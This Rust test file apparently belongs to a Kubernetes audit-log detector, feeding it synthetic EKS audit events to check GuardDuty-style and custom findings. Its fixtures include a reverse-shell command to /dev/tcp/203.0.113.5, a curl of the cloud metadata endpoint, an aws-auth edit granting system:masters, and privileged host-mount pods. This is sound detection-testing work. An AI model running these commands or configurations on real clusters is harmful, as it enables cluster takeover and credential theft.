//! Every detector on full audit events shaped like EKS's: each GuardDuty audit-log type
//! (deterministic and behavioural), the threat-list variants, the rate windows and Rampart's
//! change detections — and the quiet cases next to them.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use rampart_detect::analyzer::{Analyzer, AnalyzerConfig};
use rampart_detect::baseline::Baseline;
use rampart_detect::finding::{Finding, Severity};
use rampart_detect::guardduty::{Cidr, GuardDuty};
use rampart_detect::window::WindowConfig;
use serde_json::{Value, json};

fn event(verb: &str, uri: &str, user: &str, object_ref: Value, code: i64, extra: Value) -> String {
    let mut e = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
        "auditID": format!("{:032x}", fastid()), "stage": "ResponseComplete",
        "requestURI": uri, "verb": verb,
        "user": {"username": user, "groups": if user == "system:anonymous" { json!(["system:unauthenticated"]) } else { json!(["system:authenticated"]) }},
        "sourceIPs": ["198.51.100.23"], "userAgent": "kubectl/v1.31.2",
        "objectRef": object_ref, "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": "2026-03-02T10:15:04.112233Z", "stageTimestamp": "2026-03-02T10:15:04.139871Z",
        "annotations": {"authorization.k8s.io/decision": if code < 400 { "allow" } else { "forbid" }, "authorization.k8s.io/reason": ""},
    });
    for (k, v) in extra.as_object().unwrap() {
        e[k] = v.clone();
    }
    e.to_string()
}

fn fastid() -> u64 {
    use std::sync::atomic::{AtomicU64, Ordering};
    static N: AtomicU64 = AtomicU64::new(1);
    N.fetch_add(1, Ordering::SeqCst)
}

fn analyzer(baseline: Option<(Baseline, u64)>) -> Analyzer {
    Analyzer::new(AnalyzerConfig {
        falco: None,
        guardduty: GuardDuty { threat_list: vec![Cidr::parse("203.0.113.0/24").unwrap()] },
        baseline,
        windows: WindowConfig { forbidden_threshold: 5, ..WindowConfig::default() },
        min_severity: rampart_detect::finding::Severity::Info,
    })
}

fn run(a: &mut Analyzer, events: &[String]) -> Vec<Finding> {
    let mut out = Vec::new();
    for e in events {
        a.observe_text(e, &mut out).unwrap();
    }
    out
}

fn ids(findings: &[Finding]) -> Vec<&str> {
    findings.iter().map(|f| f.id.as_str()).collect()
}

fn pod(name: &str, spec: Value) -> Value {
    json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": "payments"}, "spec": spec})
}

#[test]
fn successful_anonymous_access_in_each_tactic() {
    let cases = [
        (
            "list",
            "/api/v1/namespaces/default/secrets",
            json!({"resource": "secrets", "namespace": "default"}),
            "CredentialAccess",
        ),
        ("get", "/api/v1/namespaces", json!({"resource": "namespaces"}), "Discovery"),
        (
            "delete",
            "/api/v1/namespaces/default/events/e1",
            json!({"resource": "events", "namespace": "default", "name": "e1"}),
            "DefenseEvasion",
        ),
        (
            "delete",
            "/apis/apps/v1/namespaces/default/deployments/web",
            json!({"resource": "deployments", "namespace": "default", "name": "web", "apiGroup": "apps"}),
            "Impact",
        ),
        (
            "create",
            "/apis/apps/v1/namespaces/default/daemonsets",
            json!({"resource": "daemonsets", "namespace": "default", "apiGroup": "apps"}),
            "Persistence",
        ),
    ];
    for (verb, uri, obj, tactic) in cases {
        let mut a = analyzer(None);
        let found = run(&mut a, &[event(verb, uri, "system:anonymous", obj, 200, json!({}))]);
        let want = format!("{tactic}:Kubernetes/SuccessfulAnonymousAccess");
        assert!(ids(&found).contains(&want.as_str()), "{want}: {:?}", ids(&found));
    }
    // Health checks and denied anonymous calls are not findings.
    let mut a = analyzer(None);
    let quiet = run(
        &mut a,
        &[
            event("get", "/healthz", "system:anonymous", Value::Null, 200, json!({"objectRef": null})),
            event(
                "get",
                "/api/v1/namespaces",
                "system:anonymous",
                json!({"resource": "namespaces"}),
                403,
                json!({}),
            ),
        ],
    );
    assert!(!ids(&quiet).iter().any(|i| i.contains("SuccessfulAnonymousAccess")), "{:?}", ids(&quiet));
}

#[test]
fn policy_and_execution_findings() {
    let mut a = analyzer(None);
    let exec = event(
        "create",
        "/api/v1/namespaces/kube-system/pods/kube-proxy-7xk2p/exec?command=sh&command=-c&command=id&container=kube-proxy",
        "kubernetes-admin",
        json!({"resource": "pods", "namespace": "kube-system", "name": "kube-proxy-7xk2p", "subresource": "exec"}),
        101,
        json!({"stage": "ResponseStarted"}),
    );
    let default_admin = event(
        "create",
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        "mallory",
        json!({"resource": "clusterrolebindings", "name": "pwn", "apiGroup": "rbac.authorization.k8s.io"}),
        201,
        json!({"requestObject": {"kind": "ClusterRoleBinding", "metadata": {"name": "pwn"}, "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
               "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "default"}]}}),
    );
    let anonymous_grant = event(
        "create",
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        "mallory",
        json!({"resource": "clusterrolebindings", "name": "anonymous-binding"}),
        201,
        json!({"requestObject": {"kind": "ClusterRoleBinding", "metadata": {"name": "anonymous-binding"}, "roleRef": {"kind": "ClusterRole", "name": "anonymous-role"},
               "subjects": [{"kind": "User", "name": "system:anonymous"}]}}),
    );
    let dashboard = event(
        "patch",
        "/api/v1/namespaces/kubernetes-dashboard/services/kubernetes-dashboard",
        "mallory",
        json!({"resource": "services", "namespace": "kubernetes-dashboard", "name": "kubernetes-dashboard"}),
        200,
        json!({"requestObject": {"spec": {"type": "LoadBalancer"}},
               "responseObject": {"kind": "Service", "metadata": {"name": "kubernetes-dashboard", "namespace": "kubernetes-dashboard"}, "spec": {"type": "LoadBalancer", "selector": {"k8s-app": "kubernetes-dashboard"}}}}),
    );
    let kubeflow = event(
        "create",
        "/api/v1/namespaces/kubeflow/services",
        "mallory",
        json!({"resource": "services", "namespace": "kubeflow"}),
        201,
        json!({"responseObject": {"kind": "Service", "metadata": {"name": "centraldashboard-public", "namespace": "kubeflow"}, "spec": {"type": "LoadBalancer", "selector": {"app": "centraldashboard"}}}}),
    );
    let internal = event(
        "create",
        "/api/v1/namespaces/kubeflow/services",
        "mallory",
        json!({"resource": "services", "namespace": "kubeflow"}),
        201,
        json!({"responseObject": {"kind": "Service", "metadata": {"name": "centraldashboard-lb", "namespace": "kubeflow",
               "annotations": {"service.beta.kubernetes.io/aws-load-balancer-scheme": "internal"}}, "spec": {"type": "LoadBalancer", "selector": {"app": "centraldashboard"}}}}),
    );
    let mount = event(
        "create",
        "/api/v1/namespaces/payments/pods",
        "ci",
        json!({"resource": "pods", "namespace": "payments"}),
        201,
        json!({"requestObject": pod("debug", json!({"containers": [{"name": "c", "image": "alpine", "volumeMounts": [{"name": "root", "mountPath": "/host"}]}],
               "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}))}),
    );
    let read_only_mount = event(
        "create",
        "/api/v1/namespaces/payments/pods",
        "ci",
        json!({"resource": "pods", "namespace": "payments"}),
        201,
        json!({"requestObject": pod("ro", json!({"containers": [{"name": "c", "image": "alpine", "volumeMounts": [{"name": "etc", "mountPath": "/host", "readOnly": true}]}],
               "volumes": [{"name": "etc", "hostPath": {"path": "/etc"}}]}))}),
    );
    let found = run(
        &mut a,
        &[exec, default_admin, anonymous_grant, dashboard, kubeflow, internal, mount, read_only_mount],
    );
    let ids = ids(&found);
    for want in [
        "Execution:Kubernetes/ExecInKubeSystemPod",
        "Policy:Kubernetes/AdminAccessToDefaultServiceAccount",
        "Policy:Kubernetes/AnonymousAccessGranted",
        "Policy:Kubernetes/ExposedDashboard",
        "Policy:Kubernetes/KubeflowDashboardExposed",
        "Persistence:Kubernetes/ContainerWithSensitiveMount",
    ] {
        assert_eq!(ids.iter().filter(|i| **i == want).count(), 1, "{want} exactly once: {ids:?}");
    }
    let exec_finding = found.iter().find(|f| f.id.ends_with("ExecInKubeSystemPod")).unwrap();
    assert!(exec_finding.message.contains("`sh -c id`"), "{}", exec_finding.message);
    assert_eq!(exec_finding.events[0].source_ip(), "198.51.100.23");
}

#[test]
fn threat_list_callers() {
    let mut a = analyzer(None);
    let from = |ip: &str| {
        event(
            "list",
            "/api/v1/secrets",
            "alice",
            json!({"resource": "secrets"}),
            200,
            json!({"sourceIPs": ["10.0.0.1", ip]}),
        )
    };
    let found = run(&mut a, &[from("203.0.113.77"), from("192.0.2.1")]);
    assert_eq!(ids(&found), ["CredentialAccess:Kubernetes/MaliciousIPCaller.Custom"]);
    // Only the last source IP counts: the others are client-supplied X-Forwarded-For.
    let spoofed = event(
        "list",
        "/api/v1/secrets",
        "alice",
        json!({"resource": "secrets"}),
        200,
        json!({"sourceIPs": ["203.0.113.77", "10.0.0.1"]}),
    );
    assert!(run(&mut a, &[spoofed]).is_empty());
}

#[test]
fn behavioural_findings_after_learning() {
    let mut a = analyzer(Some((Baseline::default(), 3)));
    let learn: Vec<String> = (0..3)
        .map(|_| {
            event(
                "get",
                "/api/v1/namespaces/a/pods",
                "bob",
                json!({"resource": "pods", "namespace": "a"}),
                200,
                json!({}),
            )
        })
        .collect();
    assert!(run(&mut a, &learn).is_empty());
    let workload = |user: &str, image: &str, privileged: bool, mount: bool| {
        let mut spec = json!({"containers": [{"name": "c", "image": image, "securityContext": {"privileged": privileged}, "command": ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]}]});
        if mount {
            spec["volumes"] = json!([{"name": "d", "hostPath": {"path": "/var/run/docker.sock"}}]);
            spec["containers"][0]["volumeMounts"] =
                json!([{"name": "d", "mountPath": "/var/run/docker.sock"}]);
        }
        event(
            "create",
            "/apis/apps/v1/namespaces/a/deployments",
            user,
            json!({"resource": "deployments", "namespace": "a", "apiGroup": "apps"}),
            201,
            json!({"requestObject": {"kind": "Deployment", "metadata": {"name": "w"}, "spec": {"template": {"spec": spec}}}}),
        )
    };
    let events = vec![
        event("list", "/api/v1/secrets", "mallory", json!({"resource": "secrets"}), 200, json!({})),
        event(
            "create",
            "/apis/rbac.authorization.k8s.io/v1/namespaces/a/rolebindings",
            "mallory",
            json!({"resource": "rolebindings", "namespace": "a"}),
            201,
            json!({"requestObject": {"kind": "RoleBinding", "roleRef": {"name": "admin"}, "subjects": [{"kind": "User", "name": "mallory"}]}}),
        ),
        event(
            "create",
            "/api/v1/namespaces/a/pods/p/exec?command=ls",
            "mallory",
            json!({"resource": "pods", "namespace": "a", "name": "p", "subresource": "exec"}),
            101,
            json!({"stage": "ResponseStarted"}),
        ),
        event(
            "create",
            "/apis/rbac.authorization.k8s.io/v1/clusterroles",
            "mallory",
            json!({"resource": "clusterroles", "name": "r"}),
            201,
            json!({"requestObject": {"kind": "ClusterRole", "rules": [{"verbs": ["impersonate"], "resources": ["users"]}]}}),
        ),
        event(
            "create",
            "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
            "mallory",
            json!({"resource": "selfsubjectaccessreviews"}),
            201,
            json!({}),
        ),
        workload("mallory", "kalilinux/kali-rolling", true, true),
    ];
    let found = run(&mut a, &events);
    let ids = ids(&found);
    for want in [
        "CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed",
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
        "Execution:Kubernetes/AnomalousBehavior.ExecInPod",
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleCreated",
        "Discovery:Kubernetes/AnomalousBehavior.PermissionChecked",
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer",
        "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount",
        "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
        "PrivilegeEscalation:Kubernetes/PrivilegedContainer",
    ] {
        assert!(ids.contains(&want), "{want}: {ids:?}");
    }
    let binding = found.iter().find(|f| f.id.ends_with("RoleBindingCreated")).unwrap();
    assert_eq!(binding.severity, Severity::High, "admin binding");
    let deployed =
        found.iter().find(|f| f.id == "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed").unwrap();
    assert_eq!(deployed.severity, Severity::Medium, "offensive image raises it");
    // The same activity again is no longer new.
    assert!(!ids.is_empty());
    let again = run(
        &mut a,
        &events.iter().map(|e| e.replace("\"auditID\":\"", "\"auditID\":\"x")).collect::<Vec<_>>(),
    );
    assert!(
        !again.iter().any(|f| f.id.contains("AnomalousBehavior")),
        "{:?}",
        again.iter().map(|f| &f.id).collect::<Vec<_>>()
    );
}

#[test]
fn forbidden_spike_and_changes() {
    let mut a = analyzer(None);
    let mut events: Vec<String> = (0..8)
        .map(|_| event("list", "/api/v1/secrets", "eve", json!({"resource": "secrets"}), 403, json!({})))
        .collect();
    events.push(event("update", "/api/v1/namespaces/kube-system/configmaps/aws-auth", "admin", json!({"resource": "configmaps", "namespace": "kube-system", "name": "aws-auth"}), 200,
        json!({"responseObject": {"kind": "ConfigMap", "data": {"mapRoles": "- rolearn: arn:aws:iam::111122223333:role/intruder\n  username: x\n  groups: [system:masters]\n"}}})));
    events.push(event(
        "delete",
        "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/rampart",
        "admin",
        json!({"resource": "validatingwebhookconfigurations", "name": "rampart"}),
        200,
        json!({}),
    ));
    events.push(event("create", "/api/v1/namespaces/a/pods/p/exec?command=sh&command=-c&command=curl%20http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data", "eve",
        json!({"resource": "pods", "namespace": "a", "name": "p", "subresource": "exec"}), 101, json!({"stage": "ResponseStarted"})));
    events.push(event(
        "get",
        "/api/v1/namespaces/kube-system/secrets",
        "ci",
        json!({"resource": "secrets", "namespace": "kube-system"}),
        200,
        json!({"impersonatedUser": {"username": "system:admin", "groups": ["system:masters"]}}),
    ));
    let found = run(&mut a, &events);
    let ids = ids(&found);
    assert_eq!(ids.iter().filter(|i| **i == "rampart/ForbiddenSpike").count(), 1, "{ids:?}");
    assert_eq!(ids.iter().filter(|i| **i == "rampart/SecretReadDenied").count(), 1, "{ids:?}");
    let aws_auth = found.iter().find(|f| f.id == "rampart/AwsAuthModified").unwrap();
    assert_eq!(aws_auth.severity, Severity::Critical);
    assert!(
        aws_auth.message.contains("role/intruder") && aws_auth.message.contains("system:masters"),
        "{}",
        aws_auth.message
    );
    let webhook = found.iter().find(|f| f.id == "rampart/AdmissionWebhookChanged").unwrap();
    assert_eq!(webhook.severity, Severity::High);
    let exec = found.iter().find(|f| f.id == "rampart/SuspiciousExecCommand").unwrap();
    assert!(exec.message.contains("169.254.169.254"), "{}", exec.message);
    assert!(ids.contains(&"rampart/PrivilegedImpersonation"));
    // Duplicates (same auditID and stage) are dropped.
    let before = a.stats.duplicates;
    run(&mut a, &events[..1]);
    assert_eq!(a.stats.duplicates, before + 1);
}

/// A ClusterRole labelled into admin is the change to report, for whoever made it; the
/// aggregation controller's rewrite of admin that follows is not. The same rewrite by anyone
/// else is.
#[test]
fn the_aggregation_controllers_rewrites_follow_the_change_that_caused_them() {
    let mut a = analyzer(None);
    let admin_rules = json!({"responseObject": {"kind": "ClusterRole",
        "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}}]},
        "rules": [{"verbs": ["*"], "resources": ["secrets"], "apiGroups": [""]}]}});
    let rewrite = |user: &str| {
        event(
            "update",
            "/apis/rbac.authorization.k8s.io/v1/clusterroles/admin",
            user,
            json!({"resource": "clusterroles", "name": "admin", "apiGroup": "rbac.authorization.k8s.io"}),
            200,
            admin_rules.clone(),
        )
    };
    let events = [
        event(
            "create",
            "/apis/rbac.authorization.k8s.io/v1/clusterroles",
            "mallory",
            json!({"resource": "clusterroles", "name": "secrets-to-admins", "apiGroup": "rbac.authorization.k8s.io"}),
            201,
            json!({"requestObject": {"kind": "ClusterRole",
                "metadata": {"labels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}},
                "rules": [{"verbs": ["*"], "resources": ["secrets"], "apiGroups": [""]}]}}),
        ),
        rewrite("system:serviceaccount:kube-system:clusterrole-aggregation-controller"),
        rewrite("eve"),
    ];
    let found = run(&mut a, &events);
    let changed: Vec<&str> =
        found.iter().filter(|f| f.id == "rampart/RbacChanged").map(|f| f.message.as_str()).collect();
    assert_eq!(changed.len(), 2, "{changed:#?}");
    assert!(changed[0].starts_with("mallory created clusterrole secrets-to-admins"), "{changed:#?}");
    assert!(changed[1].starts_with("eve updated clusterrole admin"), "{changed:#?}");
}
